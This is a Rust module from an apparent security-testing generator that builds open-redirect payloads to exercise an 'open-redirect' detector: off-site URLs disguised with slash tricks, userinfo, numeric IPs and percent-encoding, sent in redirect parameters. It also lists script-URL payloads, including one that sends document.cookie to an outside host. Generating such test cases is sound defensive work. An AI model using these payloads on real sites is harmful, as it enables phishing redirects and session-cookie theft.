//! Open redirect through a redirect parameter (`next`, `redirect_uri`, `returnTo`, ...): the
//! target is an off-site URL written so that a naive "starts with `/`" or "host is ours" check
//! passes while the browser leaves the site. Built from parts: host form (name, dotted IP,
//! integer, hex, IPv6) × URL shape (scheme-relative, slash/backslash mixes, extra slashes,
//! whitespace in the slashes, missing slashes, userinfo before the host, script schemes) ×
//! trailing path, then mutated (percent layers, case of the scheme) and carried in a query
//! string, a form body or a JSON body under a redirect parameter name.

use crate::mutate::{join, percent_all, percent_specials, random_case};
use crate::place::{json_string, Request};
use crate::{Carrier, Family, Rng, Variant};

pub struct Redirect;

const PARAMS: &[&str] = &[
    "next",
    "redirect",
    "redirect_uri",
    "redirectUrl",
    "returnTo",
    "return_url",
    "url",
    "continue",
    "dest",
    "destination",
    "goto",
    "target",
    "callback",
    "r",
    "u",
    "rurl",
    "forward",
    "post_logout_redirect_uri",
];
const TLDS: &[&str] = &["com", "net", "io", "ru", "xyz", "top", "co", "org", "info", "site"];
const WORDS: &[&str] = &["evil", "attacker", "phish", "login-secure", "acc0unts", "pwn", "cdn-x", "track", "paypa1", "examp1e"];
const TRUSTED: &[&str] = &["example.com", "shop.example.com", "accounts.example.com"];

fn host(rng: &mut Rng) -> (String, &'static str) {
    match rng.below(9) {
        0 => {
            let ip = [rng.range(1, 223), rng.range(0, 255), rng.range(0, 255), rng.range(1, 254)];
            (format!("{}.{}.{}.{}", ip[0], ip[1], ip[2], ip[3]), "ip")
        }
        1 => (rng.range(16_777_216, 3_758_096_383).to_string(), "int-ip"),
        2 => (format!("0x{:08x}", rng.range(16_777_216, 3_758_096_383)), "hex-ip"),
        _ => {
            let sub = if rng.chance(0.3) { format!("{}.", rng.pick(&["www", "m", "auth", "cdn"])) } else { String::new() };
            (format!("{sub}{}{}.{}", rng.pick(WORDS), rng.range(0, 99), rng.pick(TLDS)), "name")
        }
    }
}

fn tail(rng: &mut Rng) -> String {
    match rng.below(5) {
        0 => String::new(),
        1 => "/".to_string(),
        2 => format!("/{}", rng.pick(&["login", "a/b", "oauth/cb", "x.php", "%2e%2e"])),
        3 => format!("/?{}={}", rng.pick(&["q", "ref", "s"]), rng.range(1, 999)),
        _ => format!("#{}", rng.pick(&["a", "top", "x"])),
    }
}

/// The URL shape: returns the text and its name.
fn shape(rng: &mut Rng, host: &str) -> (String, &'static str) {
    let scheme = *rng.pick(&["http", "https"]);
    let trusted = *rng.pick(TRUSTED);
    match rng.below(11) {
        0 => (format!("//{host}"), "scheme-relative"),
        1 => (format!("{}{host}", "/".repeat(rng.range(3, 6))), "extra-slashes"),
        2 => (format!("{}{host}", rng.pick(&["/\\", "\\/", "\\\\", "/\\/", "\\/\\", "//\\"])), "backslash"),
        3 => (format!("{}{host}", rng.pick(&["/\t/", "/\n/", "/ /", "/\r\n/", "\t//"])), "whitespace-slashes"),
        4 => (format!("{scheme}:{}{host}", rng.pick(&["/", "///", "////", "\\\\", "/\\", "\\/"])), "scheme-slashes"),
        5 => (format!("{scheme}:{host}"), "scheme-no-slashes"),
        6 => (format!("{scheme}://{trusted}@{host}"), "userinfo"),
        7 => (format!("//{trusted}@{host}"), "userinfo-relative"),
        8 => (format!("{scheme}://{}:{}@{host}", trusted, rng.range(1, 9999)), "userinfo-port"),
        9 => {
            let js = *rng.pick(&[
                "javascript:alert(document.domain)",
                "javascript://%0aalert(1)",
                "java\tscript:alert(1)",
                "javascript:fetch('//x.io/'+document.cookie)",
                "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            ]);
            (js.to_string(), "script-url")
        }
        _ => (format!("／／{host}"), "fullwidth-slashes"),
    }
}

impl Family for Redirect {
    fn name(&self) -> &'static str {
        "open-redirect-param"
    }

    fn detector(&self) -> &'static str {
        "open-redirect"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (h, host_form) = host(rng);
        let (url, shape_name) = shape(rng, &h);
        let url = if shape_name == "script-url" { url } else { format!("{url}{}", tail(rng)) };
        let mut names = vec![shape_name, if shape_name == "script-url" { "" } else { host_form }];
        let url = if rng.chance(0.3) && shape_name.contains("scheme") {
            names.push("case");
            random_case(rng, &url)
        } else {
            url
        };
        let param = *rng.pick(PARAMS);
        // The value as the client puts it on the wire: encoded once like a browser, or with an
        // extra layer an attacker adds to slip past a filter.
        let (wire, enc) = match rng.below(4) {
            0 => (percent_all(&url), "url-all"),
            1 => (percent_specials(&percent_specials(&url)), "double-url"),
            _ => (percent_specials(&url), ""),
        };
        names.push(enc);
        let request = match rng.below(4) {
            0 | 1 => Request::new(
                "GET",
                &format!("/{}?{param}={wire}", rng.pick(&["login", "logout", "oauth/authorize", "sso/return", "account/switch"])),
            ),
            2 => Request::new("POST", "/login")
                .header("Content-Type", "application/x-www-form-urlencoded")
                .body(&format!("user=alex&pass=x&{param}={wire}")),
            _ => {
                names.push("json");
                Request::new("POST", "/api/session")
                    .header("Content-Type", "application/json")
                    .body(&format!("{{\"user\":\"alex\",\"{param}\":{}}}", json_string(&url)))
            }
        };
        let request = request.header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0");
        Variant { family: self.name(), mutation: join(&names), payload: url, carrier: Carrier::Request(request) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_are_many_and_carried_in_a_redirect_parameter() {
        let v = crate::sample(&Redirect, 11, 2000);
        let distinct: std::collections::HashSet<&str> = v.iter().map(|x| x.payload.as_str()).collect();
        assert!(distinct.len() > 1000, "{}", distinct.len());
        for x in &v {
            let Carrier::Request(r) = &x.carrier else { panic!("request carrier") };
            assert!(PARAMS.iter().any(|p| r.path.contains(&format!("{p}=")) || r.body.contains(p)));
        }
    }
}
